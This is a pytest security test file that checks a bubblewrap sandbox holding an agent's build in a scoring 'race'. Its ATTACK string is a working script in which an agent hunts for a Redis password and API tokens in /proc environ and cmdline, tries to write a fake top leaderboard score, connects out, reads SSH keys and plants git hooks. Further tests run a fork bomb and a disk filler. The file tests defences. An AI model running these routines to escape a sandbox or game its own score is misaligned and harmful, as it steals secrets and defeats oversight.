"""A hostile race branch (issue 19, finding 3): its build command is the agent's code, run by a
real race check (workers/race/check.py) through the sandbox the settings choose, from a worker
process whose environment holds the Redis URL with its password and the API's tokens, next to a
real Redis server (password, TCP port and unix socket) and a loopback listener that stands for
"outside". The build tries what an agent that wants its own score would: read the password from
its environment and from every /proc/*/environ and cmdline it can see, reach Redis by TCP and by
its socket and write the board, connect out, read ~/.ssh, write outside its work dir (the source
repository's git objects, which a local clone hard-links, included), fork-bomb and fill the
disk. Every attempt fails, and each check still ends as a result: the attack's own build exits
0 and is measured, the fork bomb and the disk filler are the agent's error results (CheckError),
never a crash or an infrastructure error.

On 784f9da (the unjailed local sandbox) `test_a_hostile_build_reaches_nothing_of_the_worker`
fails: the build read the password in /proc/<pid>/environ of the worker and of the sandbox's
helper, and Redis answered +OK to its AUTH.
"""

from __future__ import annotations

import hashlib
import json
import os
import secrets
import socket
import subprocess
import sys
import textwrap
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.needs import require_bwrap
from tests.race.projects import git
from tests.security.servers import RedisServer, password_redis
from workers.race.check import CheckCommands, CheckError, run_check
from workers.sandbox import SandboxLimits
from workers.sandbox.local import local_sandbox

ROOT = Path(__file__).resolve().parents[2]
REDIS_PASSWORD = "hunter2-" + secrets.token_hex(8)
API_TOKEN = "arena-api-token-" + secrets.token_hex(8)
SSH_KEY = "-----BEGIN OPENSSH PRIVATE KEY----- fake-" + secrets.token_hex(8)

# The agent's code: tries everything, says what worked in one JSON line (its last).
ATTACK = r"""
import json, os, socket, sys
cfg = json.load(open("attack.json"))
secrets_ = [cfg["password"], cfg["token"]]
out = {}
out["env_names"] = sorted(n for n in os.environ if n.startswith(("ARENA_", "REDIS")))
out["env_secret"] = any(s in v for v in os.environ.values() for s in secrets_)
seen, leaked = [], []
for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
    seen.append(pid)
    for part in ("environ", "cmdline"):
        try:
            data = open(f"/proc/{pid}/{part}", "rb").read().decode(errors="replace")
        except OSError:
            continue
        if any(s in data for s in secrets_) or "ARENA_REDIS_URL" in data:
            leaked.append(f"{pid}/{part}")
out["proc_seen"], out["proc_leaked"] = seen, leaked

def redis_try(family, address):
    try:
        s = socket.socket(family, socket.SOCK_STREAM)
        s.settimeout(2)
        s.connect(address)
        auth = b"AUTH " + cfg["password"].encode()
        s.sendall(auth + b"\r\nZADD arena:lb:stolen 1000000000 me\r\n")
        return s.recv(200).decode(errors="replace")
    except OSError as exc:
        return f"failed: {type(exc).__name__}"

out["redis_tcp"] = redis_try(socket.AF_INET, ("127.0.0.1", cfg["redis_port"]))
out["redis_unix"] = redis_try(socket.AF_UNIX, cfg["redis_socket"])
try:
    socket.create_connection(("127.0.0.1", cfg["listener_port"]), timeout=2)
    out["outside"] = "connected"
except OSError as exc:
    out["outside"] = f"failed: {type(exc).__name__}"

def read(path):
    try:
        return open(os.path.expanduser(path)).read()
    except OSError as exc:
        return f"failed: {type(exc).__name__}"

out["ssh_home"] = read("~/.ssh/id_ed25519")
out["ssh_path"] = read(cfg["ssh_key"])

def write(path):
    try:
        with open(path, "w") as f:
            f.write("owned")
        return "written"
    except OSError as exc:
        return f"failed: {type(exc).__name__}"

out["write_outside"] = write(cfg["outside"])
out["write_source_hook"] = write(os.path.join(cfg["source"], ".git", "hooks", "post-merge"))
objects = [os.path.join(r, f) for r, _, fs in os.walk(".git/objects") for f in fs]
for path in objects:
    try:
        os.chmod(path, 0o644)
    except OSError:
        pass
out["write_linked_objects"] = sorted({write(p) for p in objects})
out["write_host_tmp"] = write(cfg["host_tmp"])
print(json.dumps(out))
"""

# The worker: a real race check, the sandbox chosen by the settings (tasks/workloads/race.py),
# in a process started with the cluster's secrets in its environment.
WORKER = """
import json, sys
from tasks.settings import load_settings
from tasks.workloads.race import sandbox_from
from workers.race.check import CheckCommands, CheckError, run_check
from workers.sandbox import SandboxLimits

args = json.loads(sys.argv[1])
commands = CheckCommands(build=args["build"], timeout_s=60)
try:
    result = run_check(args["repo"], "hostile", "main", commands, sandbox_from(load_settings()),
                       limits=SandboxLimits(**args["limits"]),
                       echo=lambda line: sys.stderr.write(line + "\\n"))
    print(json.dumps({"result": result.model_dump(mode="json")}))
except CheckError as exc:
    print(json.dumps({"error": str(exc)}))
"""


@pytest.fixture
def redis_server(tmp_path: Path) -> Iterator[RedisServer]:
    """A real Redis with a password, on a loopback TCP port and a unix socket anyone may use."""
    with password_redis(tmp_path / "redis", REDIS_PASSWORD) as server:
        yield server


def hostile_repo(root: Path, files: dict[str, str]) -> Path:
    """`main` with a README; `hostile` adds the agent's files."""
    repo = root / "source"
    repo.mkdir(parents=True)
    git(repo, "init", "--quiet", "--initial-branch=main")
    (repo / "README.md").write_text("a project\n")
    git(repo, "add", "README.md")
    git(repo, "commit", "--quiet", "-m", "base")
    git(repo, "switch", "--quiet", "-c", "hostile")
    for name, text in files.items():
        (repo / name).write_text(text)
    git(repo, "add", *files)
    git(repo, "commit", "--quiet", "-m", "the agent's work")
    git(repo, "switch", "--quiet", "main")
    return repo


def digest(folder: Path) -> str:
    """Every file's path and bytes under `folder`."""
    found = hashlib.sha256()
    for path in sorted(p for p in folder.rglob("*") if p.is_file()):
        found.update(str(path).encode() + b"\0" + path.read_bytes())
    return found.hexdigest()


def run_worker(repo: Path, build: str, env: dict[str, str], **limits: object) -> dict:
    """A worker process runs the check; its JSON answer."""
    args = json.dumps({"repo": str(repo), "build": build, "limits": limits})
    done = subprocess.run(
        [sys.executable, "-c", textwrap.dedent(WORKER), args],
        env=env,
        capture_output=True,
        text=True,
        timeout=180,
    )
    assert done.returncode == 0, done.stderr[-3000:]
    answer: dict = json.loads(done.stdout.strip().splitlines()[-1])
    return answer


def worker_env(tmp_path: Path, redis_server: RedisServer) -> dict[str, str]:
    """The cluster's secrets in the worker's environment, a HOME with a private key in it."""
    home = tmp_path / "home"
    (home / ".ssh").mkdir(parents=True)
    (home / ".ssh" / "id_ed25519").write_text(SSH_KEY)
    env = {k: v for k, v in os.environ.items() if not k.startswith("ARENA_")}
    url = f"redis://:{REDIS_PASSWORD}@127.0.0.1:{redis_server.port}/0"
    return {
        **env,
        "ARENA_REDIS_URL": url,
        "ARENA_API_TOKENS": API_TOKEN,
        "HOME": str(home),
        "REDISCLI_AUTH": REDIS_PASSWORD,
        "DATABASE_URL": url,
        "PYTHONPATH": str(ROOT),
    }


def test_a_hostile_build_reaches_nothing_of_the_worker(tmp_path: Path, redis_server):
    require_bwrap()
    listener = socket.create_server(("127.0.0.1", 0))
    listener.settimeout(0)
    host_tmp = Path("/tmp") / f"arena-hostile-{secrets.token_hex(6)}"
    outside = tmp_path / "outside.txt"
    env = worker_env(tmp_path, redis_server)
    config = {
        "password": REDIS_PASSWORD,
        "token": API_TOKEN,
        "redis_port": redis_server.port,
        "redis_socket": str(redis_server.socket),
        "listener_port": listener.getsockname()[1],
        "ssh_key": env["HOME"] + "/.ssh/id_ed25519",
        "outside": str(outside),
        "source": str(tmp_path / "repos" / "source"),
        "host_tmp": str(host_tmp),
    }
    repo = hostile_repo(
        tmp_path / "repos", {"attack.py": ATTACK, "attack.json": json.dumps(config)}
    )
    objects_before = digest(repo / ".git" / "objects")
    try:
        answer = run_worker(repo, "python attack.py", env)
    finally:
        connected = _accepted(listener)
        listener.close()
        leaked_to_host = host_tmp.exists()
        host_tmp.unlink(missing_ok=True)
    assert "result" in answer, answer
    build = answer["result"]["build"]
    assert build["exit_code"] == 0, build["output_tail"]
    report = json.loads(build["output_tail"].strip().splitlines()[-1])
    # (a) the password and the token: not in its environment, nor in any process it can see.
    assert report["env_names"] == [] and report["env_secret"] is False
    assert report["proc_leaked"] == [], report
    assert all(int(pid) < 20 for pid in report["proc_seen"]), report  # the jail's own pids
    # (b) Redis: neither its port nor its socket; the board untouched.
    assert report["redis_tcp"].startswith("failed"), report
    assert report["redis_unix"] == "failed: FileNotFoundError", report
    assert redis_server.client.dbsize() == 0
    # (c) outside: no connection.
    assert report["outside"].startswith("failed") and not connected
    # (d) ~/.ssh, and writes outside the work dir.
    assert report["ssh_home"].startswith("failed") and report["ssh_path"].startswith("failed")
    assert report["write_outside"].startswith("failed") and not outside.exists()
    assert report["write_source_hook"].startswith("failed")
    assert not (repo / ".git" / "hooks" / "post-merge").exists()
    assert report["write_linked_objects"] == ["failed: OSError"], report
    assert digest(repo / ".git" / "objects") == objects_before
    assert report["write_host_tmp"] == "written" and not leaked_to_host  # the jail's own /tmp


def test_a_fork_bomb_ends_as_the_agents_error(tmp_path: Path):
    require_bwrap()
    mark = f"300.{secrets.randbelow(10**9):09d}"
    repo = hostile_repo(tmp_path / "repos", {"bomb.sh": "f(){ f|f& }; f; sleep 300\n"})
    commands = CheckCommands(build=f"sh bomb.sh {mark}", timeout_s=60)  # the mark: in every fork
    started = time.monotonic()
    with pytest.raises(CheckError, match="build command failed: killed: process limit 128"):
        run_check(
            str(repo),
            "hostile",
            "main",
            commands,
            local_sandbox(),
            limits=SandboxLimits(processes=128),
            echo=lambda _: None,
        )
    assert time.monotonic() - started < 20
    assert not [p for p in _cmdlines() if mark.encode() in p]  # nothing of it left running


def test_filling_the_disk_ends_as_the_agents_error(tmp_path: Path):
    require_bwrap()
    fill = textwrap.dedent("""
        import os
        i = 0
        while True:  # files each under the per-file limit, as many as it takes
            with open(f"fill{i}", "wb") as f:
                f.write(bytes(4 << 20))
            i += 1
    """)
    repo = hostile_repo(tmp_path / "repos", {"fill.py": fill})
    with pytest.raises(CheckError, match="build command failed: killed: disk limit 48 MiB"):
        run_check(
            str(repo),
            "hostile",
            "main",
            CheckCommands(build="python fill.py"),
            local_sandbox(),
            limits=SandboxLimits(disk_mb=48),
            echo=lambda _: None,
        )
    assert not list(Path(os.path.realpath("/tmp")).glob("arena-race-*/checkout/fill0"))


def _accepted(listener: socket.socket) -> bool:
    try:
        listener.accept()[0].close()
    except BlockingIOError:
        return False
    return True


def _cmdlines() -> list[bytes]:
    found = []
    for name in os.listdir("/proc"):
        try:
            found.append(Path(f"/proc/{name}/cmdline").read_bytes())
        except OSError:
            continue
    return found
